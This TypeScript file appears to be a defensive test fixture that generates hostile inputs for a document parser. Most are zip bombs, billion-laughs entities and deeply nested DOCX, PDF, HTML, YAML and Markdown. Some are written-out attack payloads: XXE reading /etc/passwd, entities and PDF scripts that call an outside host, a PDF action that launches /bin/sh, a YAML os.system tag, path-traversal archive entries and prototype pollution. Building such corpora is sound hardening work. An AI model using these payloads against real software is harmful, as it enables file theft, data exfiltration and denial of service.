import { deflateSync, gzipSync } from 'node:zlib';
import JSZip from 'jszip';
import { docx, p, pdf } from '../formats/made.ts';

const MEGABYTE = 2 ** 20;
const utf8 = (text: string) => new TextEncoder().encode(text);
const latin1 = (text: string) => Buffer.from(text, 'latin1');

type Bytes = Uint8Array | Promise<Uint8Array>;
/** A file that is made to do harm, by what it tries; and what comes of it, where that is clear. */
export type Hostile = readonly [what: string, name: string, bytes: () => Bytes, kind?: string];

/** So many times the same, as far as so many bytes go. */
const full = (text: string, bytes = MEGABYTE / 16) => text.repeat(Math.floor(bytes / Buffer.byteLength(text)));
const sentence = 'The ferry leaves at noon. ';

const WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';

/** A Word document in which some files are other ones. */
async function docxWith(files: Readonly<Record<string, string | Uint8Array>>): Promise<Uint8Array> {
  const zip = await JSZip.loadAsync(await docx(p('The ferry leaves at noon.')));
  for (const [name, content] of Object.entries(files)) zip.file(name, content);
  return zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE', compressionOptions: { level: 1 } });
}
const documentXml = (body: string, before = '') =>
  `<?xml version="1.0"?>${before}<w:document ${WORD}><w:body>${body}</w:body></w:document>`;
const relationships = (rels: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels}</Relationships>`;
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** An archive, as bytes. */
async function zipOf(files: Readonly<Record<string, string | Uint8Array>>): Promise<Uint8Array> {
  const zip = new JSZip();
  for (const [name, content] of Object.entries(files)) zip.file(name, content);
  return zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE', compressionOptions: { level: 1 } });
}

const LAUGHS = `<!DOCTYPE w [<!ENTITY a0 "ha">${Array.from({ length: 30 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join('')}]>`;

/** A PDF of objects as they are written, each with its number. */
function pdfOf(objects: readonly (string | Buffer)[], trailer = '/Root 1 0 R'): Uint8Array {
  const parts: Buffer[] = [latin1('%PDF-1.7\n')];
  let length = 9;
  const offsets = objects.map((object, i) => {
    const at = length;
    const written = Buffer.concat([latin1(`${i + 1} 0 obj\n`), typeof object === 'string' ? latin1(object) : object, latin1('\nendobj\n')]);
    parts.push(written);
    length += written.length;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  parts.push(
    latin1(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join('')}trailer<</Size ${objects.length + 1}${trailer}>>\nstartxref\n${length}\n%%EOF`,
    ),
  );
  return Buffer.concat(parts);
}
const stream = (content: Buffer, said = '') =>
  Buffer.concat([latin1(`<<${said}/Length ${content.length}>>stream\n`), content, latin1('\nendstream')]);
const packed = (content: Buffer, said = '') => stream(deflateSync(content), `/Filter/FlateDecode${said}`);
/** A PDF of one page, with such content. */
const onePage = (content: Buffer | string, resources = '/Font<</F 4 0 R>>', ...more: (string | Buffer)[]) =>
  pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 900]/Resources<<${resources}>>/Contents 5 0 R>>`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    content,
    ...more,
  ]);
const SHOWN = 'BT /F 12 Tf 50 800 Td (The ferry leaves at noon.) Tj ET';
const catalogWith = (said: string) =>
  pdfOf([
    `<</Type/Catalog/Pages 2 0 R${said}>>`,
    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 900]/Resources<</Font<</F 4 0 R>>>>/Contents 5 0 R>>',
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    stream(latin1(SHOWN)),
  ]);

const page = (body: string, head = '') => utf8(`<!doctype html><html><head>${head}</head><body>${body}</body></html>`);
const yaml = (lines: string) => utf8(`---\n${lines}\n---\n${sentence}`);
const toml = (lines: string) => utf8(`+++\n${lines}\n+++\n${sentence}`);
const md = (text: string) => () => utf8(text);

/** @param elsewhere an address that some of them would have connected to */
export const hostileFiles = (elsewhere: string): readonly Hostile[] => [
  // archives
  ['a picture named as a text', 'a.txt', () => latin1('\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0')],
  ['an archive named as Markdown', 'a.md', () => zipOf({ 'a.txt': sentence })],
  ['an archive named as a Word document', 'a.docx', () => zipOf({ 'a.txt': sentence })],
  [
    'archives in archives',
    'a.docx',
    async () => zipOf({ 'a.zip': await zipOf({ 'a.zip': await zipOf({ 'a.txt': new Uint8Array(2 * MEGABYTE) }) }) }),
  ],
  ['a packed text', 'a.txt', () => gzipSync(Buffer.alloc(20 * MEGABYTE))],
  ['half an archive', 'a.docx', async () => (await docx(p(sentence))).subarray(0, 500)],
  [
    'an archive of many files',
    'a.docx',
    () => docxWith(Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`word/${i}.xml`, '<a/>']))),
  ],
  ['an archive whose files lead out of it', 'a.docx', () => docxWith({ '../../../etc/cron.d/a.xml': '<a/>', '/etc/passwd.xml': '<a/>' })],
  [
    'an archive with names that objects have',
    'a.docx',
    () => docxWith({ __proto__: '<a/>', 'constructor.xml': '<a/>', 'word/__proto__.xml': '<a/>' }),
  ],
  // Word documents
  [
    'a document that unpacks to 41 MB',
    'a.docx',
    () => docxWith({ 'word/document.xml': documentXml(`<w:p>${' '.repeat(41 * MEGABYTE)}</w:p>`) }),
  ],
  ['megabytes of one paragraph', 'a.docx', () => docxWith({ 'word/document.xml': documentXml(p(full(sentence))) })],
  ['thousands of empty elements', 'a.docx', () => docxWith({ 'word/document.xml': documentXml('<w:p/>'.repeat(20_000)) })],
  [
    'paragraphs in paragraphs',
    'a.docx',
    () => docxWith({ 'word/document.xml': documentXml(`${'<w:p>'.repeat(20_000)}${'</w:p>'.repeat(20_000)}`) }),
  ],
  [
    'tables in tables',
    'a.docx',
    () => docxWith({ 'word/document.xml': documentXml(`${'<w:tbl><w:tr><w:tc>'.repeat(5000)}${'</w:tc></w:tr></w:tbl>'.repeat(5000)}`) }),
  ],
  [
    'a table of many cells',
    'a.docx',
    () => docxWith({ 'word/document.xml': documentXml(`<w:tbl>${`<w:tr>${'<w:tc/>'.repeat(100)}</w:tr>`.repeat(100)}</w:tbl>`) }),
  ],
  [
    'a cell that spans a billion',
    'a.docx',
    () =>
      docxWith({
        'word/document.xml': documentXml(
          '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/><w:vMerge/></w:tcPr><w:p><w:r><w:t>One.</w:t></w:r></w:p></w:tc></w:tr></w:tbl>',
        ),
      }),
  ],
  ['entities of entities', 'a.docx', () => docxWith({ 'word/document.xml': documentXml(p('&a30;'), LAUGHS) })],
  [
    'a file of the host as an entity',
    'a.docx',
    () => docxWith({ 'word/document.xml': documentXml(p('&x;'), '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>') }),
  ],
  [
    'an address as an entity',
    'a.docx',
    () => docxWith({ 'word/document.xml': documentXml(p('&x;'), `<!DOCTYPE w [<!ENTITY x SYSTEM "${elsewhere}/">]>`) }),
  ],
  [
    'entities from elsewhere',
    'a.docx',
    () => docxWith({ 'word/document.xml': documentXml(p('One.'), `<!DOCTYPE w [<!ENTITY % x SYSTEM "${elsewhere}/a.dtd"> %x;]>`) }),
  ],
  [
    'relationships with the outside',
    'a.docx',
    () =>
      docxWith({
        'word/_rels/document.xml.rels': relationships(
          `<Relationship Id="r1" Type="${OFFICE}/attachedTemplate" Target="${elsewhere}/a.dotm" TargetMode="External"/><Relationship Id="r2" Type="${OFFICE}/image" Target="file:///etc/passwd" TargetMode="External"/>`,
        ),
        'word/document.xml': documentXml(
          `<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${OFFICE}" r:embed="r2" r:link="r2"/></w:drawing></w:r></w:p>${p(sentence)}`,
        ),
      }),
  ],
  [
    'a document that is another file',
    'a.docx',
    () =>
      docxWith({ '_rels/.rels': relationships(`<Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="../../../../etc/passwd"/>`) }),
  ],
  [
    'relationships with itself',
    'a.docx',
    () => docxWith({ '_rels/.rels': relationships(`<Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="_rels/.rels"/>`) }),
  ],
  ['no document', 'a.docx', () => docxWith({ 'word/document.xml': '' })],
  ['a document of nonsense', 'a.docx', () => docxWith({ 'word/document.xml': '<<<>>>&&&]]>' })],
  ['a document that is not closed', 'a.docx', () => docxWith({ 'word/document.xml': `<w:document ${WORD}><w:body><w:p><w:r><w:t>One.` })],
  ['a document with NULs', 'a.docx', () => docxWith({ 'word/document.xml': documentXml(p('One\0 two.')) })],
  [
    'what a document says of itself is long',
    'a.docx',
    () => docxWith({ 'docProps/core.xml': `<a xmlns:dc="d"><dc:title>${'a'.repeat(MEGABYTE)}</dc:title></a>` }),
  ],
  [
    'styles based on one another',
    'a.docx',
    () =>
      docxWith({
        'word/styles.xml': `<w:styles ${WORD}><w:style w:styleId="a" w:type="paragraph"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b" w:type="paragraph"><w:basedOn w:val="a"/></w:style></w:styles>`,
      }),
  ],
  [
    'numbering based on one another',
    'a.docx',
    () =>
      docxWith({
        'word/_rels/document.xml.rels': relationships(`<Relationship Id="r1" Type="${OFFICE}/numbering" Target="numbering.xml"/>`),
        'word/numbering.xml': `<w:numbering ${WORD}><w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="L"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>`,
        'word/styles.xml': `<w:styles ${WORD}><w:style w:type="numbering" w:styleId="L"><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style></w:styles>`,
        'word/document.xml': documentXml(
          '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>One.</w:t></w:r></w:p>',
        ),
      }),
  ],
  // PDFs
  [
    'a PDF that says it has a million pages',
    'a.pdf',
    () => pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 1000000/Kids[3 0 R]>>', '<</Type/Page/Parent 2 0 R>>']),
  ],
  ['a PDF that has 4,000 pages', 'a.pdf', () => pdf(Array.from({ length: 4000 }, () => ['One.']))],
  [
    'a PDF whose pages are in a circle',
    'a.pdf',
    () =>
      pdfOf([
        '<</Type/Catalog/Pages 2 0 R>>',
        '<</Type/Pages/Count 2/Kids[2 0 R 3 0 R]>>',
        '<</Type/Pages/Parent 2 0 R/Count 1/Kids[2 0 R]>>',
      ]),
  ],
  [
    'a PDF whose pages are deep in one another',
    'a.pdf',
    () =>
      pdfOf([
        '<</Type/Catalog/Pages 2 0 R>>',
        ...Array.from({ length: 20_000 }, (_, i) => `<</Type/Pages/Count 1/Kids[${i + 3} 0 R]>>`),
        '<</Type/Page/Parent 2 0 R>>',
      ]),
  ],
  [
    'a PDF with a page packed twice',
    'a.pdf',
    () => onePage(stream(deflateSync(deflateSync(Buffer.alloc(5 * MEGABYTE, ' '))), '/Filter[/FlateDecode/FlateDecode]')),
  ],
  ['a PDF with a page of numbers', 'a.pdf', () => onePage(packed(latin1(full('1 2 3 ', 4 * MEGABYTE))))],
  ['a PDF with a page of open brackets', 'a.pdf', () => onePage(packed(latin1(full('[<<('))))],
  [
    'a PDF with arrays deep in one another',
    'a.pdf',
    () => pdfOf([`<</Type/Catalog/Pages 2 0 R/A ${'['.repeat(500_000)}${']'.repeat(500_000)}>>`, '<</Type/Pages/Count 0/Kids[]>>']),
  ],
  [
    'a PDF with forms that show themselves',
    'a.pdf',
    () =>
      onePage(
        stream(latin1('/X Do')),
        '/XObject<</X 6 0 R>>',
        stream(latin1('/X Do /X Do'), '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>'),
      ),
  ],
  ['a PDF whose length is its own', 'a.pdf', () => onePage('<</Length 5 0 R>>stream\nx\nendstream')],
  ['a PDF whose length is wrong', 'a.pdf', () => onePage(`<</Length 999999999>>stream\n${SHOWN}\nendstream`)],
  ['a PDF whose length is negative', 'a.pdf', () => onePage(`<</Length -1>>stream\n${SHOWN}\nendstream`)],
  ['a PDF with a broken table of objects', 'a.pdf', () => latin1(`%PDF-1.4\n${full('1 0 obj\n<<>>\nendobj\n')}xref\n0 999999999\n`)],
  [
    'a PDF whose tables of objects are in a circle',
    'a.pdf',
    () => latin1('%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer<</Size 1/Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF'),
  ],
  [
    'a PDF with a table of a billion objects',
    'a.pdf',
    () =>
      latin1(
        '%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\nxref\n0 1000000000\n0000000000 65535 f \ntrailer<</Size 1000000000/Root 1 0 R>>\nstartxref\n53\n%%EOF',
      ),
  ],
  [
    'a PDF of objects that are in one stream',
    'a.pdf',
    () => pdfOf(['<</Type/Catalog/Pages 9 0 R>>', packed(Buffer.alloc(20 * MEGABYTE, '1 0 '), '/Type/ObjStm/N 100000000/First 400000000')]),
  ],
  [
    'a PDF with scripts',
    'a.pdf',
    () =>
      catalogWith(
        `/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);while\\(true\\){})>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(this.submitForm\\("${elsewhere}/"\\))>>]>>>>`,
      ),
  ],
  [
    'a PDF that opens an address, a file and a program',
    'a.pdf',
    () =>
      catalogWith(`/OpenAction<</S/URI/URI(${elsewhere}/)/Next<</S/Launch/F(/bin/sh)>>>>/AA<</WC<</S/GoToR/F(file:///etc/passwd)/D[0]>>>>`),
  ],
  [
    'a PDF with a font from elsewhere',
    'a.pdf',
    () =>
      onePage(
        stream(latin1(SHOWN)),
        `/Font<</F<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor<</FontFile2<</F(${elsewhere}/font)/FS/URL>>>>>>>>`,
      ),
  ],
  [
    'a PDF with a font that computes',
    'a.pdf',
    () =>
      onePage(
        stream(latin1(SHOWN)),
        '/Font<</F<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/../../../etc/passwd/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/CIDSystemInfo<</Registry(a)/Ordering(b)>>>>]/ToUnicode 6 0 R>>>>',
        packed(
          latin1(
            `begincmap 1 begincodespacerange <00000000> <ffffffff> endcodespacerange ${'1 beginbfrange <00000000> <00ffffff> <0041> endbfrange '.repeat(20)}`,
          ),
        ),
      ),
  ],
  [
    'a PDF with a picture of ten billion points',
    'a.pdf',
    () =>
      onePage(
        stream(latin1('/X Do')),
        '/XObject<</X 6 0 R>>',
        packed(
          Buffer.alloc(10 * MEGABYTE),
          '/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB',
        ),
      ),
  ],
  [
    'a PDF with a password',
    'a.pdf',
    () =>
      pdfOf(
        [
          '<</Type/Catalog/Pages 2 0 R>>',
          '<</Type/Pages/Count 0/Kids[]>>',
          `<</Filter/Standard/V 2/R 3/Length 128/P -1/O<${'00'.repeat(32)}>/U<${'00'.repeat(32)}>>>`,
        ],
        '/Root 1 0 R/Encrypt 3 0 R/ID[<00><00>]',
      ),
  ],
  [
    'a PDF with a password that takes long to try',
    'a.pdf',
    () =>
      pdfOf(
        [
          '<</Type/Catalog/Pages 2 0 R>>',
          '<</Type/Pages/Count 0/Kids[]>>',
          `<</Filter/Standard/V 5/R 6/Length 256/P -1/O<${'00'.repeat(48)}>/U<${'00'.repeat(48)}>/OE<${'00'.repeat(32)}>/UE<${'00'.repeat(32)}>/Perms<${'00'.repeat(16)}>>>`,
        ],
        '/Root 1 0 R/Encrypt 3 0 R/ID[<00><00>]',
      ),
  ],
  ['half a PDF', 'a.pdf', () => pdf([['One.', 'Two.']]).subarray(0, 300)],
  ['the first line of a PDF', 'a.pdf', () => latin1('%PDF-1.7\n')],
  ['a PDF of NULs', 'a.pdf', () => latin1(`%PDF-1.7\n${'\0'.repeat(MEGABYTE - 100)}`)],
  ['a PDF that is a web page as well', 'a.html', () => latin1(`%PDF-1.7\n<html><body>${sentence}</body></html>`)],
  ['a PDF that says a lot of itself', 'a.pdf', () => pdf([['One.']], { Title: 'a'.repeat(MEGABYTE), Author: '<script>'.repeat(1000) })],
  // web pages
  ['100,000 elements in one another', 'a.html', () => page(`${'<div>'.repeat(100_000)}${sentence}`)],
  ['a million elements in one another', 'a.html', () => page('<b>'.repeat(1_500_000))],
  ['4,000 elements in one another', 'a.html', () => page(`${'<div>'.repeat(4000)}${sentence}${'</div>'.repeat(4000)}`)],
  ['lists in lists', 'a.html', () => page('<ul><li>'.repeat(100_000))],
  ['tables in tables in a page', 'a.html', () => page('<table><tr><td>'.repeat(4000))],
  ['a table of many cells in a page', 'a.html', () => page(`<table>${`<tr>${'<td>1'.repeat(300)}`.repeat(300)}</table>`)],
  [
    'a cell that spans a billion in a page',
    'a.html',
    () => page('<table><tr><td colspan=1000000000 rowspan=1000000000>One.<td>Two.</table>'),
  ],
  ['megabytes of attributes', 'a.html', () => page(`<p ${Array.from({ length: 100_000 }, (_, i) => `a${i}=${i}`).join(' ')}>One.`)],
  ['an attribute of a megabyte', 'a.html', () => page(`<p title="${'a'.repeat(MEGABYTE - 100)}">One.`)],
  ['an attribute that is not closed', 'a.html', () => page(`<p title="${full(sentence)}`)],
  ['a remark that is not closed', 'a.html', () => page(`<!-- ${full('--')}`)],
  ['a script that is not closed', 'a.html', () => page(`<script>${full('</scrip')}`)],
  ['a tag that is not closed', 'a.html', () => page(full('<'))],
  ['closing tags', 'a.html', () => page(full('</p></div></b>'))],
  ['characters by number', 'a.html', () => page(full('&#x1F600;&#0;&#xD800;&#99999999999;&notanentity;'))],
  ['ampersands', 'a.html', () => page(full('&'))],
  [
    'frames, pictures, styles and scripts from elsewhere',
    'a.html',
    () =>
      page(
        `<iframe src="${elsewhere}/"></iframe><img src="${elsewhere}/a.png" srcset="${elsewhere}/b.png 2x"><object data="file:///etc/passwd"></object><script src="${elsewhere}/a.js"></script><p>${sentence.repeat(50)}</p>`,
        `<meta http-equiv="refresh" content="0; url=${elsewhere}/"><base href="${elsewhere}/"><link rel="stylesheet" href="${elsewhere}/a.css"><script>while (true) {}</script><style>@import "${elsewhere}/";</style>`,
      ),
  ],
  ['a page that names an encoding that is none', 'a.html', () => latin1('<html><meta charset="__proto__"><p>Caf\xe9 is open.')],
  ['a page in UTF-7', 'a.html', () => latin1('<html><meta charset="utf-7"><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-')],
  ['a page of one line', 'a.html', () => page(full(sentence))],
  ['a page of headings', 'a.html', () => page('<h1>One</h1>'.repeat(1000))],
  ['a page of links', 'a.html', () => page(full('<a href="javascript:alert(1)">One</a> '))],
  [
    'a page of paragraphs for Readability',
    'a.html',
    () => page(full(`<div><p class="comment sidebar article">${sentence.repeat(4)}</p></div>`, 900_000)),
  ],
  ['a page that breaks its lines', 'a.html', () => page(full('<br>'))],
  ['a page of what can not be seen', 'a.html', () => page(full('&shy;&#8203;'))],
  ['a page of data', 'a.html', () => page('', `<script type="application/ld+json">${'{"a":'.repeat(500_000)}</script>`)],
  [
    'a drawing',
    'a.html',
    () => page(`<svg>${'<g>'.repeat(4000)}<text>One.</text><foreignObject><p>Two.</p></foreignObject></svg><math><mi>x</mi></math>`),
  ],
  ['templates', 'a.html', () => page(`${'<template>'.repeat(4000)}<p>One.</p>`)],
  ['selects and options', 'a.html', () => page(full('<select><option>One'))],
  // front matter
  [
    'anchors of anchors',
    'a.md',
    () => yaml(`a: &a0 [x]\n${Array.from({ length: 40 }, (_, i) => `b${i}: &a${i + 1} [${`*a${i},`.repeat(9)}*a${i}]`).join('\n')}`),
  ],
  [
    'a title of anchors of anchors',
    'a.md',
    () =>
      yaml(
        `a: &a0 [x]\n${Array.from({ length: 12 }, (_, i) => `b${i}: &a${i + 1} [${`*a${i},`.repeat(9)}*a${i}]`).join('\n')}\ntitle: *a12`,
      ),
  ],
  ['an anchor in itself', 'a.md', () => yaml('title: &a [*a]')],
  [
    'merges of merges',
    'a.md',
    () => yaml(`a: &a {x: 1}\n${Array.from({ length: 2000 }, (_, i) => `b${i}:\n  <<: [*a, *a, *a]`).join('\n')}`),
  ],
  ['lists deep in one another', 'a.md', () => yaml(`title: ${'['.repeat(500_000)}`)],
  ['mappings deep in one another', 'a.md', () => yaml(`title: ${'{a: '.repeat(100_000)}`)],
  ['items in items', 'a.md', () => yaml(`title:\n${'- '.repeat(100_000)}`)],
  [
    'programs in YAML',
    'a.md',
    () => yaml('title: !!js/function "function () { while (true) {} }"\nother: !!python/object/apply:os.system ["true"]'),
  ],
  [
    'names that objects have, in YAML',
    'a.md',
    () => yaml('__proto__: {title: One}\nconstructor: {prototype: {polluted: true}}\ntitle: Two'),
  ],
  ['huge numbers in YAML', 'a.md', () => yaml(`title: ${'9'.repeat(100_000)}\ndate: 999999999999-99-99`)],
  ['thousands of fields', 'a.md', () => yaml(Array.from({ length: 30_000 }, (_, i) => `a${i}: ${i}`).join('\n'))],
  ['fields that are the same', 'a.md', () => yaml(full('title: One\n'))],
  ['front matter of a line', 'a.md', () => yaml(`title: "${full('\\x41')}"`)],
  ['front matter that does not end', 'a.md', () => utf8(`---\ntitle: One\n${full('--\n')}`)],
  ['front matter of question marks', 'a.md', () => yaml(`a: b\n${'? '.repeat(100_000)}`)],
  ['tables deep in one another, in TOML', 'a.md', () => toml(`title = ${'['.repeat(200_000)}`)],
  ['names deep in one another, in TOML', 'a.md', () => toml(`${'a.'.repeat(100_000)}a = 1`)],
  [
    'names that objects have, in TOML',
    'a.md',
    () => toml('__proto__.title = "One"\n[constructor.prototype]\npolluted = true\n[__proto__]\npolluted = true'),
  ],
  ['huge numbers in TOML', 'a.md', () => toml(`a = ${'9'.repeat(100_000)}\nb = 9223372036854775808\ndate = 9999-99-99`)],
  ['tables again and again, in TOML', 'a.md', () => toml(full('[[a.b.c]]\n'))],
  // Markdown
  ['open brackets', 'a.md', md(full('['))],
  ['brackets in brackets', 'a.md', md(`${'['.repeat(50_000)}a${']'.repeat(50_000)}`)],
  ['links that are not closed', 'a.md', md(full('[a]('))],
  ['links in angle brackets that are not closed', 'a.md', md(full('[a](<b'))],
  ['pictures', 'a.md', md(full('!['))],
  ['quotes in quotes', 'a.md', md(`${'>'.repeat(100_000)} One.`)],
  ['quotes in quotes, on many lines', 'a.md', md(full(`${'> '.repeat(500)}One.\n`))],
  ['lists in lists, in Markdown', 'a.md', md(Array.from({ length: 1500 }, (_, i) => `${' '.repeat(i)}- One.\n`).join(''))],
  ['items on a line', 'a.md', md(`${'- '.repeat(50_000)}One.`)],
  ['stars', 'a.md', md(full('*'))],
  ['stars and underscores', 'a.md', md(full('*a_b**c__'))],
  ['emphasis that is not closed', 'a.md', md(full('**a '))],
  ['backticks', 'a.md', md(Array.from({ length: 1400 }, (_, i) => `${'`'.repeat(i)} `).join(''))],
  ['backslashes', 'a.md', md(full('\\'))],
  ['fences', 'a.md', md(full('```\n~~~\n'))],
  ['rules', 'a.md', md(full('- - - -\n* * *\n'))],
  ['definitions', 'a.md', md(full('[a]: <b\n'))],
  ['HTML in Markdown that is not closed', 'a.md', md(full('<a b="'))],
  ['remarks in Markdown', 'a.md', md(full('<!-- '))],
  ['declarations in Markdown', 'a.md', md(full('<?<!A<![CDATA['))],
  ['a table of bars', 'a.md', md(`|a|b|\n|-|-|\n${full('|')}`)],
  ['a table of many columns', 'a.md', md(`${'|a'.repeat(5000)}|\n${'|-'.repeat(5000)}|\n${full('|a\n')}`)],
  ['tabs', 'a.md', md(full('\t> \t'))],
  ['lines of equals signs', 'a.md', md(full('a\n===\n'))],
  ['addresses', 'a.md', md(full('<http://a'))],
  ['entities in Markdown', 'a.md', md(full('&#x'))],
  // texts
  ['nothing', 'a.txt', () => new Uint8Array(0), 'empty'],
  ['a mark of UTF-8 alone', 'a.txt', () => latin1('\xef\xbb\xbf'), 'empty'],
  ['a mark of UTF-16 alone', 'a.txt', () => latin1('\xff\xfe'), 'empty'],
  ['half a mark', 'a.txt', () => latin1('\xef\xbb')],
  ['white space', 'a.txt', () => utf8(full(' \t\n\r\u00a0\u2003')), 'empty'],
  ['NULs', 'a.txt', () => new Uint8Array(MEGABYTE)],
  ['a NUL in a text', 'a.txt', () => utf8('One.\0Two.'), 'binary'],
  ['escapes of a terminal', 'a.txt', () => utf8(full('\x1b]0;One\x07\x1b[2J\x1b[31mTwo.\n'))],
  ['UTF-8 and Windows-1252 mixed', 'a.txt', () => Buffer.concat([utf8('Café, thé. '), latin1('caf\xe9 \x93open\x94')])],
  ['half a character in UTF-16', 'a.txt', () => Buffer.from('\ufeffOne \ud800 two.', 'utf16le')],
  ['half characters in UTF-8', 'a.txt', () => latin1(full('\xed\xa0\x80'))],
  ['characters that are longer than they need', 'a.txt', () => latin1('One \xc0\xaf\xe0\x80\xaf two.')],
  ['characters past the last one', 'a.txt', () => latin1('One \xf4\x90\x80\x80 two.')],
  ['UTF-32', 'a.txt', () => latin1('\xff\xfe\0\0O\0\0\0n\0\0\0')],
  ['sentences on one line', 'a.txt', () => utf8(full(sentence))],
  ['one line of five megabytes', 'a.txt', () => utf8(full('a', 5 * MEGABYTE))],
  ['one long sentence', 'a.txt', () => utf8(full('ferry '))],
  ['much of full stops', 'a.txt', () => utf8(full('.'))],
  ['much of full stops and letters', 'a.txt', () => utf8(full('a. '))],
  ['much of quotation marks', 'a.txt', () => utf8(full('"'))],
  ['much of brackets', 'a.txt', () => utf8(full('('))],
  ['much of hyphens', 'a.txt', () => utf8(full('-'))],
  ['much of digits', 'a.txt', () => utf8(full('1'))],
  ['much of figures', 'a.txt', () => utf8(full('1,000.00:'))],
  ['much of capitals', 'a.txt', () => utf8(full('A B '))],
  ['much of abbreviations', 'a.txt', () => utf8(full('U.S. Dr. '))],
  ['much of colons', 'a.txt', () => utf8(full('a: '))],
  ['much of short lines', 'a.txt', () => utf8(full('a\n'))],
  ['much of indented lines', 'a.txt', () => utf8(full(`${' '.repeat(500)}a\n`))],
  ['much of empty lines', 'a.txt', () => utf8(`a${full('\n')}`)],
  ['much of carriage returns', 'a.txt', () => utf8(`a${full('\r')}`)],
  ['much of items', 'a.txt', () => utf8(full('- One.\n'))],
  ['much of numbered items', 'a.txt', () => utf8(full('1. One.\n'))],
  ['much of questions', 'a.txt', () => utf8(full('Q: Who?\nA: He.\n'))],
  ['much of times', 'a.txt', () => utf8(full('12:00 One.\n'))],
  ['much of bars', 'a.txt', () => utf8(full('a | b\n'))],
  ['much of tabs', 'a.txt', () => utf8(`a${full('\t')}b`)],
  ['much of letters with marks', 'a.txt', () => utf8(full('e\u0301'))],
  ['a letter with a million marks', 'a.txt', () => utf8(`e${full('\u0301')}`)],
  ['joined pictures', 'a.txt', () => utf8(full('👩\u200d'))],
  ['marks of direction', 'a.txt', () => utf8(full('\u202e\u2066a'))],
  ['letters of a language without spaces', 'a.txt', () => utf8(full('語'))],
  ['Thai', 'a.txt', () => utf8(full('กา'))],
  ['mentions and links', 'a.txt', () => utf8(full('@everyone <@1> <#2> [a](http://b) ||c|| '))],
  ['a name that leads out', '../../../etc/passwd', () => utf8(sentence)],
  ['a name that is none', '', () => utf8(sentence)],
  ['a name of a million letters', `${'a'.repeat(MEGABYTE)}.txt`, () => utf8(sentence)],
];

/** They would take minutes to read. */
export const ENDLESS: readonly (readonly [what: string, name: string, bytes: () => Bytes])[] = [
  [
    'hundreds of thousands of attributes',
    'a.docx',
    () => docxWith({ 'word/document.xml': documentXml(`<w:p ${Array.from({ length: 300_000 }, (_, i) => `a${i}="${i}"`).join(' ')}/>`) }),
  ],
  [
    'a PDF whose pages are one page, again and again',
    'a.pdf',
    () =>
      pdfOf([
        '<</Type/Catalog/Pages 2 0 R>>',
        `<</Type/Pages/Count 2999/Kids[${'3 0 R '.repeat(2999)}]>>`,
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 900]/Resources<</Font<</F 4 0 R>>>>/Contents 5 0 R>>',
        '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
        packed(latin1(`BT /F 12 Tf ${full('(The ferry leaves at noon.) Tj ')} ET`)),
      ]),
  ],
  [
    'a PDF with a page of twenty megabytes of text',
    'a.pdf',
    () => onePage(packed(latin1(`BT /F 12 Tf ${full('(The ferry leaves at noon.) Tj T* ', 20 * MEGABYTE)} ET`))),
  ],
  [
    'a PDF with forms that show forms that show forms',
    'a.pdf',
    () =>
      onePage(
        stream(latin1('/X Do')),
        '/XObject<</X 6 0 R>>',
        ...Array.from({ length: 30 }, (_, i) =>
          stream(latin1('/X Do '.repeat(10)), `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X ${i + 7} 0 R>>>>`),
        ),
        stream(latin1(SHOWN), '/Type/XObject/Subtype/Form/BBox[0 0 9 9]'),
      ),
  ],
];

/** They would take a lot of memory to read. */
export const GREEDY: readonly (readonly [what: string, name: string, bytes: () => Bytes])[] = [
  ['megabytes of paragraphs', 'a.docx', () => docxWith({ 'word/document.xml': documentXml(full(p(sentence), 8 * MEGABYTE)) })],
  ['a PDF with a page that unpacks to 80 MB of spaces', 'a.pdf', () => onePage(packed(Buffer.alloc(80 * MEGABYTE, ' ')))],
];
